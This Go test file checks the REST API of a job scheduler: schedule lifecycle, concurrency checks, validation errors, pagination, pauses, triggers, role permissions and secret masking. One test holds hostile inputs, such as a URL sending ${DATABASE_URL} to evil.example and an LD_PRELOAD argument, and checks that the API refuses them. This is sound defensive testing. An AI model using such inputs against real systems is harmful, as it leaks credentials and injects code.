package api_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/punctual-dev/punctual/alert"
	"github.com/punctual-dev/punctual/calendar"
	"github.com/punctual-dev/punctual/database"
	"github.com/punctual-dev/punctual/schedule"
	"github.com/punctual-dev/punctual/store"
	"github.com/punctual-dev/punctual/web/access"
	"github.com/punctual-dev/punctual/web/api"
)

const call = `"http": {"url": "https://example.com/report"}`

func TestASchedulesLifeByTheAPI(t *testing.T) {
	onBoth(t, func(s *site) {
		made := s.post("/schedules", `{"key": "report", "when": "weekdays at 09:00", "timezone": "Europe/Paris", `+call+`, "tags": ["mail"], "retries": 3}`).ok(201)
		made.want("key", "report", "owner.kind", "api", "editable", true, "version", 1, "state", "active", "timezone", "Europe/Paris",
			"in_words", "Every weekday at 09:00, Europe/Paris", "next_due", "2026-11-24T08:00:00Z", "next.0.local", "2026-11-24T09:00:00+01:00",
			"definition.retries", 3, "definition.http.url", "https://example.com/report", "warnings", "[]")
		if got := made.header.Get("Location"); got != "/api/v1/schedules/report" {
			s.Errorf("it is said to be at %q", got)
		}
		shown := s.get("/schedules/report").ok(200)
		if shown.header.Get("ETag") != `"1"` || shown.count("policies") < 3 || shown.count("next") != 10 {
			s.Errorf("it is shown with ETag %s and %v", shown.header.Get("ETag"), shown.text)
		}
		s.ask("PUT", "/schedules/report", `{"when": "every 5m", `+call+`}`, "If-Match", `"1"`).ok(200).
			want("version", 2, "when.0", "every 5m", "definition.retries", nil, "tags", "[]")
		s.ask("PATCH", "/schedules/report", `{"description": "Sends it", "http": {"headers": {"X-A": "b"}}}`, "If-Match", `"2"`).ok(200).
			want("description", "Sends it", "when.0", "every 5m", "definition.http.headers.X-A", "b", "definition.http.url", "https://example.com/report")
		s.ask("PATCH", "/schedules/report", `{"description": null}`, "If-Match", "*").ok(200).want("description", nil, "version", 4)
		s.ask("DELETE", "/schedules/report", "", "If-Match", `"4"`).ok(204)
		s.get("/schedules/report").refused(404, "report")
		s.get("/activity").ok(200).want("items.0.action", "delete", "items.0.author", "ada", "items.3.action", "update", "items.4.action", "create")
	})
}

func TestAKeyThatAScheduleHadBeforeIsAnsweredWithTheOneItHasNow(t *testing.T) {
	onBoth(t, func(s *site) {
		s.apply(declared("old", "hourly at :00"))
		s.apply(declared("new", "hourly at :00", func(d *schedule.Declaration) { d.Was = "old" }))
		s.get("/schedules/old").refused(404, "it was renamed, and is new now")
		s.get("/runs/old@2026-11-23T09:00:00Z").refused(404, "it was renamed, and is new now")
		s.get("/schedules/other").refused(404, "there is no schedule other")
	})
}

func TestAnEditOfWhatHasChangedMeanwhileIsRefused(t *testing.T) {
	onBoth(t, func(s *site) {
		body := `{"when": "every 5m", ` + call + `}`
		s.ask("PUT", "/schedules/report", body).refused(404, "report")
		s.ask("PUT", "/schedules/report", body, "If-Match", `"1"`).refused(404, "report")
		s.ask("PUT", "/schedules/report", body, "If-None-Match", "*").ok(201)
		s.ask("PUT", "/schedules/report", body, "If-None-Match", "*").refused(412, "already")
		s.ask("PUT", "/schedules/report", body, "If-None-Match", `"1"`).refused(400, "If-None-Match: *")
		s.post("/schedules", `{"key": "report", "when": "every 5m", `+call+`}`).refused(409, "already", "api")
		s.ask("PUT", "/schedules/report", body).refused(428, "If-Match", `"1"`)
		s.ask("PATCH", "/schedules/report", `{}`).refused(428, "If-Match")
		s.ask("PUT", "/schedules/report", body, "If-Match", `"7"`).refused(412, "version 1")
		s.ask("PUT", "/schedules/report", body, "If-Match", `seven`).refused(412, "no version")
		s.ask("DELETE", "/schedules/report", "", "If-Match", `"7"`).refused(412, "version 1")
		s.ask("DELETE", "/schedules/none", "").refused(404, "none")
	})
}

func TestWhatTheFileOwnsIsEditedInTheFile(t *testing.T) {
	onBoth(t, func(s *site) {
		s.apply(declared("backup", "every 1h"))
		for _, method := range []string{"PUT", "PATCH", "DELETE"} {
			body := `{"when": "every 5m", ` + call + `}`
			if method == "DELETE" {
				body = ""
			}
			s.ask(method, "/schedules/backup", body, "If-Match", "*").refused(409, "file punctual.yaml")
		}
		s.get("/schedules/backup").ok(200).want("editable", false, "owner.name", "punctual.yaml", "definition.run", "true")
		s.post("/schedules/backup/pause", `{"note": "moving"}`).ok(200).want("schedules", 1)
		s.post("/schedules/backup/trigger", "").ok(201)
	})
}

func TestCommandsComeFromTheNetworkOnlyWhereThatIsAllowed(t *testing.T) {
	onBoth(t, func(s *site) {
		s.apply(declared("backup", "every 1h", func(d *schedule.Declaration) {
			d.Job.Run = &schedule.Command{Shell: "./backup.sh", Env: map[string]string{"TARGET": "a", "API_TOKEN": "hunter2", "HOME_URL": "${HOME_URL}"}}
		}))
		const advice = "--allow-commands"
		s.post("/schedules", `{"key": "evil", "when": "every 1h", "run": "id"}`).refused(403, advice).at("body.run")
		s.post("/schedules", `{"key": "evil", "when": "every 1h", "http": {"url": "https://evil.example/?${DATABASE_URL}"}}`).refused(403, advice, "${DATABASE_URL}").at("body.http.url")
		s.post("/schedules", `{"key": "evil", "when": "every 1h", "http": {"url": "https://evil.example/", "body": "${X}"}, "env": {"X": "${DATABASE_URL}"}}`).refused(403, advice).at("body.env.X")
		s.post("/schedules", `{"key": "fine", "when": "every 1h", "http": {"url": "https://example.com/${X}"}, "env": {"X": "y"}}`).ok(201)

		s.post("/schedules", `{"key": "often", "when": "every 5m", "job_of": "backup"}`).ok(201).
			want("definition.run", "./backup.sh", "definition.env.TARGET", "a", "definition.env.API_TOKEN", schedule.Hidden)
		s.post("/schedules", `{"key": "x", "when": "every 5m", "job_of": "none"}`).refused(422, "none").at("body.job_of")
		s.post("/schedules", `{"key": "x", "when": "every 5m", "job_of": "backup", "env": {"A": "b"}}`).refused(422).at("body.env")
		s.post("/schedules", `{"key": "x", "when": "every 5m", "job_of": 7}`).refused(422).at("body.job_of")

		// All but the job may change, and its secrets stay.
		definition := `{"when": "every 10m", "run": "./backup.sh", "env": {"TARGET": "a", "API_TOKEN": "` + schedule.Hidden + `", "HOME_URL": "${HOME_URL}"}, "retries": 1}`
		s.ask("PUT", "/schedules/often", definition, "If-Match", "*").ok(200).want("when.0", "every 10m", "definition.env.API_TOKEN", schedule.Hidden)
		s.ask("PATCH", "/schedules/often", `{"retries": 2}`, "If-Match", "*").ok(200)
		s.ask("PATCH", "/schedules/often", `{"env": {"TARGET": "b"}}`, "If-Match", "*").refused(403, advice)
		s.ask("PATCH", "/schedules/often", `{"run": "id"}`, "If-Match", "*").refused(403, advice)
		s.ask("PATCH", "/schedules/often", `{"env": {"OTHER": "`+schedule.Hidden+`"}}`, "If-Match", "*").refused(422, schedule.Hidden).at("body.env.OTHER")
		overviews, err := s.Overviews(s.ctx(), "often")
		s.must(err)
		if got := overviews[0].Job.Run.Env["API_TOKEN"]; got != "hunter2" {
			s.Errorf("the secret is now %q", got)
		}
		if text := s.get("/schedules/often").text + s.get("/activity").text; strings.Contains(text, "hunter2") {
			s.Error("a secret is shown")
		}
		// A trigger replaces what the schedule names, and nothing else.
		s.post("/schedules/often/trigger", `{"args": {"LD_PRELOAD": "x"}}`).refused(403, "LD_PRELOAD").at("body.args.LD_PRELOAD")
		s.post("/schedules/often/trigger", `{"args": {"TARGET": "${DATABASE_URL}"}}`).refused(403).at("body.args.TARGET")
		s.post("/schedules/often/trigger", `{"args": {"TARGET": "c"}}`).ok(201)
		// A patch may change the kind of job.
		s.ask("PATCH", "/schedules/often", `{"http": {"url": "https://example.com/"}, "env": null}`, "If-Match", "*").ok(200).want("definition.run", nil)
		s.ask("PATCH", "/schedules/often", `{"job_of": "backup"}`, "If-Match", "*").ok(200).want("definition.run", "./backup.sh", "definition.http", nil)
	})
}

func TestWhereItIsAllowedAnAdminWritesCommands(t *testing.T) {
	s := newSite(t, "sqlite", func(o *api.Options) { o.AllowCommands = true; o.Prefix = "/punctual" })
	made := s.post("/schedules", `{"key": "mine", "when": "every 1h", "run": ["id", "-u"], "env": {"A": "${B}"}}`).ok(201).want("runs", "id -u")
	if got := made.header.Get("Location"); got != "/punctual/api/v1/schedules/mine" {
		s.Errorf("it is said to be at %q", got)
	}
	s.ask("PATCH", "/schedules/mine", `{"env": {"A": "c"}, "run": "id"}`, "If-Match", "*").ok(200).want("definition.env.A", "c", "definition.run", "id")
	s.post("/schedules/mine/trigger", `{"args": {"ANY": "${C}"}}`).ok(201)
	s.get("/about").ok(200).want("allow_commands", true, "you", "ada", "role", "admin", "version", "1.2.3")
}

func TestWhatIsWrongWithAScheduleIsToldAsByTheFile(t *testing.T) {
	s := newSite(t, "sqlite", nil)
	s.apply(declared("backup", "every 1h"))
	cases := []struct {
		body, location string
		words          []string
	}{
		{`{"key": "a", "when": "61 * * * *", ` + call + `}`, "body.when", []string{"61", "minute"}},
		{`{"key": "a", "when": "daily at 09:00", "timezone": "EST", ` + call + `}`, "body.timezone", []string{"EST"}},
		{`{"key": "a", ` + call + `}`, "body.when", []string{"missing"}},
		{`{"key": "a", "when": "every 5m"}`, "body.run", []string{"is missing", "exactly one"}},
		{`{"key": "a", "when": "every 5m", ` + call + `, "retires": 3}`, "body.retires", []string{"retries"}},
		{`{"key": "a", "when": "every 5m", ` + call + `, "retries": "3"}`, "body.retries", []string{"number"}},
		{`{"key": "a", "when": "every 5m", ` + call + `, "timeout": 30}`, "body.timeout", []string{"unit"}},
		{`{"key": "a", "when": "every 5m", ` + call + `, "limit": "warehous"}`, "body.limit", []string{"warehouse"}},
		{`{"key": "a", "when": "every 5m", ` + call + `, "limit": "other-thing"}`, "body.limit", []string{"warehouse"}},
		{`{"key": "a", "when": "every 5m", "when": "every 6m", ` + call + `}`, "body.when", []string{"twice"}},
		{`{"key": "a", "when": "every 5m", "http": {"url": "nowhere"}}`, "body.http.url", []string{"nowhere"}},
		{`{"key": "a", "when": "every 5m", "http": {"url": "https://example.com", "headers": {"X Y": "z"}}}`, "body.http.headers.X Y", []string{"header"}},
		{`{"key": "a", "when": "every 5m", ` + call + `, "enabled_in": ["production"]}`, "body.enabled_in", []string{"files"}},
		{`{"key": "a", "when": "every 5m", ` + call + `, "was": "b"}`, "body.was", []string{"files"}},
		{`{"key": "a", "when": "once at 2020-01-01T00:00:00Z", ` + call + `}`, "body.when", []string{"past"}},
		{`{"key": "A b", "when": "every 5m", ` + call + `}`, "body.key", []string{"A b"}},
		{`{"key": 7, "when": "every 5m", ` + call + `}`, "body.key", nil},
		{`{"when": "every 5m", ` + call + `}`, "body.key", nil},
	}
	for _, c := range cases {
		r := s.post("/schedules", c.body).refused(422, c.words...)
		r.at(c.location)
	}
	s.post("/schedules", `{"key": "a", "when": `).refused(400)
	s.post("/schedules", `[]`).refused(422)
	s.post("/schedules", `"x"`).refused(422)
	s.post("/schedules", ``).refused(400, "body")
	s.post("/schedules", `{"key": "a", "when": "every 5m", "description": "`+strings.Repeat("x", 2<<20)+`"}`).refused(413)
	s.post("/schedules", `{"key": "ok", "when": "30 2 * * *", "timezone": "Europe/Paris", "limit": "warehouse", `+call+`}`).ok(201).
		want("warnings.0.field", "when", "definition.limit", "warehouse")
	if got := s.get("/schedules/a"); got.status != 404 {
		s.Errorf("something was stored: %s", got.text)
	}
}

func TestSchedulesAreListedInPagesAndChosen(t *testing.T) {
	onBoth(t, func(s *site) {
		for i := range 7 {
			s.post("/schedules", fmt.Sprintf(`{"key": "job-%d", "when": "every %dm", "description": "100%% of it_%d", "tags": ["t%d"], %s}`, i, i+1, i, i%2, call)).ok(201)
		}
		s.apply(declared("backup", "every 1h"))
		first := s.get("/schedules?limit=3").ok(200)
		if first.count("items") != 3 || first.field("items.0.key") != "backup" {
			s.Errorf("the first page is %s", first.text)
		}
		second := s.get("/schedules?limit=3&cursor="+first.field("next").(string)).ok(200).want("items.0.key", "job-2", "next", "job-4")
		third := s.get("/schedules?limit=3&cursor="+second.field("next").(string)).ok(200).want("items.0.key", "job-5", "next", nil)
		if third.count("items") != 2 {
			s.Errorf("the last page is %s", third.text)
		}
		s.post("/schedules/job-3/pause", "").ok(200)
		for query, want := range map[string]string{
			"tag=t1": "job-1 job-3 job-5", "owner=file": "backup", "state=paused": "job-3", "search=JOB-4": "job-4", "search=100%25": "job-0 job-1 job-2 job-3 job-4 job-5 job-6",
			"search=it_6": "job-6", "search=%25%25": "", "state=active&owner=file": "backup", "state=ended": "", "limit=1&state=paused": "job-3",
		} {
			r := s.get("/schedules?" + query).ok(200)
			var keys []string
			for i := range r.count("items") {
				keys = append(keys, fmt.Sprint(r.field(fmt.Sprintf("items.%d.key", i))))
			}
			if got := strings.Join(keys, " "); got != want {
				s.Errorf("%s finds %q, want %q", query, got, want)
			}
		}
		s.get("/schedules?colour=red").refused(422, "unknown").at("query.colour")
		s.get("/schedules?limit=0").refused(422).at("query.limit")
		s.get("/schedules?limit=1000").refused(422).at("query.limit")
		s.get("/schedules?state=happy").refused(422).at("query.state")
		s.get("/schedules?search=" + strings.Repeat("x", 300)).refused(422).at("query.search")
		s.get("/schedules/Not a key").refused(422)
	})
}

func TestPausesSkipsAndTriggers(t *testing.T) {
	onBoth(t, func(s *site) {
		s.apply(declared("a", "every 1h", func(d *schedule.Declaration) { d.Tags = []string{"mail"}; d.When.Zone = "Europe/Paris" }), declared("b", "every 1h"))
		s.post("/schedules/a/pause", `{"until": "2026-11-23T12:00", "note": "moving house"}`).ok(200)
		s.get("/schedules/a").ok(200).want("state", "paused", "pauses.0.until", "2026-11-23T11:00:00Z", "pauses.0.note", "moving house", "pauses.0.author", "ada", "next.0.fate", "will be skipped: paused")
		s.post("/schedules/a/resume", "").ok(200).want("resumed", true)
		s.post("/schedules/a/resume", "").ok(200).want("resumed", false)
		s.post("/schedules/a/pause", `{"until": "2026-11-23T08:00:00Z"}`).refused(422, "past").at("body.until")
		s.post("/schedules/a/pause", `{"until": "tomorrow"}`).refused(422).at("body.until")
		s.post("/schedules/a/pause", `{"colour": "red"}`).refused(422).at("body.colour")
		s.post("/schedules/none/pause", "").refused(404, "none")
		s.post("/schedules/pause", `{"tag": "mail"}`).ok(200).want("schedules", 1)
		s.post("/schedules/pause", `{"all": true, "note": "stop"}`).ok(200).want("schedules", 2)
		s.post("/schedules/pause", `{}`).refused(422, "tag")
		s.post("/schedules/pause", `{"tag": "mail", "all": true}`).refused(422)
		s.post("/schedules/resume", `{"all": true}`).ok(200).want("resumed", true)
		s.get("/schedules?state=paused").ok(200).want("items.0.key", "a", "items.0.pauses.0.tag", "mail", "items.1", nil)
		s.post("/schedules/resume", `{"tag": "mail"}`).ok(200)

		s.post("/schedules/a/skip-next", "").ok(200).want("occurrence", "a@2026-11-23T10:00:00Z")
		s.post("/schedules/a/skip-next", "").ok(200).want("occurrence", "a@2026-11-23T10:00:00Z")
		s.get("/schedules/a").ok(200).want("skip_next", "2026-11-23T10:00:00Z", "next.0.fate", "will be skipped: by hand", "next_due", "2026-11-23T11:00:00Z")
		s.post("/schedules/a/undo-skip-next", "").ok(200).want("occurrence", "a@2026-11-23T10:00:00Z")
		s.post("/schedules/a/undo-skip-next", "").refused(409, "no occurrence")
		s.get("/schedules/a").ok(200).want("skip_next", nil, "next_due", "2026-11-23T10:00:00Z")
		s.post("/schedules/a/skip-next", "").ok(200)
		s.apply(declared("a", "every 1h"), declared("b", "every 1h"), declared("once", "once at 2026-11-23T09:30:00Z"))
		s.advance(time.Hour)
		s.tick()
		s.post("/schedules/once/skip-next", "").refused(409, "no occurrence")

		s.post("/schedules/none/trigger", "").refused(404)
		s.apply(declared("a", "every 1h", func(d *schedule.Declaration) { d.Policies.Overlap = schedule.OverlapAllow }), declared("b", "every 1h"))
		first := s.post("/schedules/a/trigger", `{}`, "Idempotency-Key", "k1").ok(201)
		s.post("/schedules/a/trigger", `{}`, "Idempotency-Key", "k1").ok(200).want("repeated", true, "occurrence", first.field("occurrence"), "job_id", first.field("job_id"))
		s.post("/schedules/b/trigger", `{}`, "Idempotency-Key", "k1").refused(409, "another schedule")
		s.post("/schedules/a/trigger", `{}`, "Idempotency-Key", "k 2").refused(422)
		s.post("/schedules/b/trigger", `{}`).refused(409, "active", "force")
		s.post("/schedules/b/trigger", `{"force": true}`).ok(201)
	})
}

func TestARunThatWasSkippedIsAnsweredWithWhatRunsItAfterAll(t *testing.T) {
	onBoth(t, func(s *site) {
		s.apply(declared("a", "every 1h"))
		s.post("/schedules/a/skip-next", "").ok(200)
		s.advance(time.Hour)
		s.tick()
		const run, told = "/runs/a@2026-11-23T10:00:00Z", "a@2026-11-23T10:00:00Z was skipped ("
		const backfill = "so it has no job; punctual backfill a --from 2026-11-23T10:00:00Z --to 2026-11-23T10:00:01Z   runs it after all"
		s.get(run+"/output").refused(409, told, backfill)
		s.post(run+"/retry", "").refused(409, told, backfill)
		s.post(run+"/cancel", "").refused(409, told, backfill)
		s.post(run+"/seen", "").refused(409, told, backfill)

		s.apply(declared("a", "hourly at :30"))
		s.get(run+"/output").refused(409, told, "no backfill runs it: punctual schedules trigger a   runs it now")
	})
}

func TestEveryOperationNeedsItsRole(t *testing.T) {
	s := newSite(t, "sqlite", nil)
	s.apply(declared("a", "every 1h"))
	cases := []struct {
		method, path string
		needs        access.Role
	}{
		{"GET", "/schedules", access.Viewer},
		{"GET", "/runs", access.Viewer},
		{"GET", "/alerts", access.Viewer},
		{"GET", "/events", access.Viewer},
		{"GET", "/openapi.json", access.Viewer},
		{"GET", "/docs", access.Viewer},
		{"POST", "/preview", access.Viewer},
		{"POST", "/schedules/a/pause", access.Operator},
		{"POST", "/schedules/a/trigger", access.Operator},
		{"POST", "/schedules/a/backfill", access.Operator},
		{"POST", "/runs/1/retry", access.Operator},
		{"POST", "/runs/cancel", access.Operator},
		{"POST", "/runs/seen", access.Operator},
		{"POST", "/queues/default/pause", access.Operator},
		{"POST", "/schedules", access.Admin},
		{"PUT", "/schedules/a", access.Admin},
		{"PATCH", "/schedules/a", access.Admin},
		{"DELETE", "/schedules/a", access.Admin},
	}
	for _, c := range cases {
		for role := access.Nobody; role < c.needs; role++ {
			status := http.StatusForbidden
			if role == access.Nobody {
				status = http.StatusUnauthorized
			}
			s.as(role).ask(c.method, c.path, "").refused(status)
		}
	}
	s.as(access.Viewer).ask("POST", "/schedules/a/pause", "").refused(403, "operator", "operate", "viewer")
	s.as(access.Operator).post("/schedules/a/pause", "").ok(200)
	s.as(access.Nobody).get("/nothing").refused(401)
	s.as(access.Viewer).get("/nothing").refused(404, "/docs")
	r := s.ask("PUT", "/schedules", "").refused(405, "PUT")
	if allow := r.header.Get("Allow"); !strings.Contains(allow, "POST") {
		s.Errorf("allowed is %q", allow)
	}
}

func TestWhoWasToldOfWhatIsListedWithoutAddresses(t *testing.T) {
	onBoth(t, func(s *site) {
		s.get("/alerts").ok(200)
		owner := schedule.Owner{Kind: schedule.OwnerFile, Name: "punctual.yaml"}
		daily := schedule.Declaration{Key: "daily", When: calendar.When{Expressions: []string{"daily at 20:00"}}, Job: schedule.Job{Run: &schedule.Command{Shell: "true"}}, Policies: schedule.DefaultPolicies()}
		_, err := s.Apply(s.ctx(), []schedule.Declaration{daily}, store.ApplyOptions{
			PlanOptions: schedule.PlanOptions{Owner: owner}, Actor: "ada",
			Alerts: &alert.Settings{Failures: 3, To: map[string]alert.Recipient{"ops": {Webhook: "https://example.com/secret"}}},
		})
		s.must(err)
		s.must(s.Database().Transaction(s.ctx(), func(tx database.Tx) error {
			_, err := tx.Exec(s.ctx(), "INSERT INTO punctual_alert (owner, schedule_id, kind, raised, since_at) SELECT $1, id, 'failing', 1, $2 FROM punctual_schedule", owner.String(), start)
			return err
		}))
		_, err = s.TestAlerts(s.ctx(), "", "ada")
		s.must(err)
		r := s.get("/alerts").ok(200)
		for _, words := range []string{`"schedule":"daily"`, `"kind":"failing"`, `"since":"2026-11-23T09:00:00Z"`, `"failures":3`, `"name":"ops"`, `"way":"webhook"`, `"recipient":"ops"`} {
			if !strings.Contains(r.text, words) {
				s.Errorf("the alerts do not tell %s: %s", words, r.text)
			}
		}
		if strings.Contains(r.text, "example.com") {
			s.Errorf("the alerts tell an address: %s", r.text)
		}
	})
}
